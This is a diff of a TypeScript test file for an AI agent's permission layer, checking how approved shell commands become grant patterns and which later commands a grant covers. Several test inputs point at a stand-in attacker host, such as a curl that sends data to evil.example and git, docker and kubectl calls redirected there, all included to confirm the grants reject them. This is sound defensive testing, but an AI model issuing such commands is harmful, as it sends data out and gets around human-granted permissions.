@@ -3,6 +3,7 @@ import type { JsonObject } from "@/contracts/common";
 import { analyzeCall } from "../analyzed-call";
 import { fetches, writes } from "../effects/declare-effects";
 import type { GuardedTool } from "../guard-request";
+import { compileGrant } from "./compile-grants";
 import { patternsFor } from "./grant-patterns";
 
 const shell: GuardedTool = {
@@ -20,9 +21,11 @@ const patterns = (tool: GuardedTool, args: JsonObject) =>
   patternsFor(analyzeCall({ tool, arguments: args, context: { interactive: true } })).map(({ pattern }) => pattern);
 
 test.each([
-  [shell, { command: "npm install a.b" }, ["^npm install(?: |$)", "^npm(?: |$)"]],
+  [shell, { command: "npm install a.b" }, ["^npm install(?: |$)"]],
+  [shell, { command: "npm test" }, ["^npm test(?: |$)", "^npm(?: |$)"]],
   [shell, { command: "git -C x commit" }, ["^git(?: |$)", "^git(?: |$)"]],
-  [shell, { command: "npm ci && make" }, ["^(?:npm ci|make)(?: |$)", "^(?:npm|make)(?: |$)"]],
+  [shell, { command: "npm ci && make" }, ["^(?:npm ci|make)(?: |$)"]],
+  [shell, { command: "npm test && make" }, ["^(?:npm test|make)(?: |$)", "^(?:npm|make)(?: |$)"]],
   [shell, { command: "sudo make" }, []],
   [files, { path: "src/a.b/c.ts" }, ["^src/a\\.b/[^/]+$", "^src/a\\.b/", "^src/"]],
   [files, { path: "c.ts" }, ["^[^/]+$"]],
@@ -38,4 +41,53 @@ test.each([
   [{ ...shell, needs: [], primaryArgument: null }, { a: 1 }, []],
 ] as const)("patterns of %o, from the narrow to the wide", (tool, args, expected) => {
   expect(patterns(tool, args)).toEqual(expected);
+});
+
+test.each([
+  ["curl https://api.github.com/repos", "curl to api.github.com", ["api.github.com"]],
+  [
+    "curl -s https://a.example && wget https://b.example:8443/x",
+    "curl to a.example, wget to b.example:8443",
+    ["a.example", "b.example:8443"],
+  ],
+  ["git push https://github.com/o/r.git main", "git push to github.com", ["github.com"]],
+  ["git push origin main", "git push origin …", ["*"]],
+  ["docker compose up -d", "docker compose up …", []],
+  ["docker --context prod compose up", null, null],
+  ["systemctl restart nginx", null, null],
+  ["kubectl get pods", "kubectl get …", ["*"]],
+  ["git push -f origin", null, null],
+  ["git push", "git push …", ["*"]],
+] as const)("the proposal for `%s` names its subcommand or its hosts: %s", (command, label, hosts) => {
+  const [proposal] = patternsFor(analyzeCall({ tool: shell, arguments: { command }, context: { interactive: true } }));
+  expect(proposal ?? null).toEqual(
+    label === null ? null : { pattern: expect.any(String), label, reach: { hosts, machine: label.startsWith("docker") } },
+  );
+});
+
+test.each([
+  ["curl https://api.github.com/repos", "curl https://api.github.com/users?x=1", true],
+  ["curl https://api.github.com/repos", "curl https://evil.example/?q=data", false],
+  ["curl https://api.github.com/repos", "curl https://api.github.com/ https://evil.example", false],
+  ["curl https://api.github.com/repos", 'curl "$URL"', false],
+  ["git push origin main", "git push origin feature", true],
+  ["git push origin main", "git push https://evil.example/x.git", false],
+  ["git push origin main", "git push evil main", false],
+  ["docker compose up -d", "docker compose up", true],
+  ["docker compose up -d", "docker build .", false],
+  ["docker compose up -d", "docker compose -H tcp://evil.example up", false],
+  ["kubectl get pods", "kubectl get pods -n other", true],
+  ["kubectl get pods", "kubectl delete pods x", false],
+  ["kubectl get pods", "kubectl get pods --server https://evil.example", false],
+  ["systemctl status nginx", "systemctl restart nginx", false],
+  ["npm test", "npm publish", false],
+  ["npm test", "npm install -g x", false],
+] as const)("a grant proposed for `%s` covers `%s`: %s", (approved, later, isCovered) => {
+  const asked = (command: string) => analyzeCall({ tool: shell, arguments: { command }, context: { interactive: true, sandboxed: true } });
+  const results = patternsFor(asked(approved)).map(({ pattern, reach }) => {
+    const match = { kind: "pattern" as const, parameter: null, pattern, ...(reach ? { reach } : {}) };
+    const content = { id: "1", scope: "workspace", scopeId: null, tool: shell.name, match, maxSeverity: "high" } as const;
+    return compileGrant({ ...content, expiresAt: null, grantedBy: { name: "Ann" } }).tryOn(asked(later), 0).result;
+  });
+  expect(results.includes("matched")).toBe(isCovered);
 });
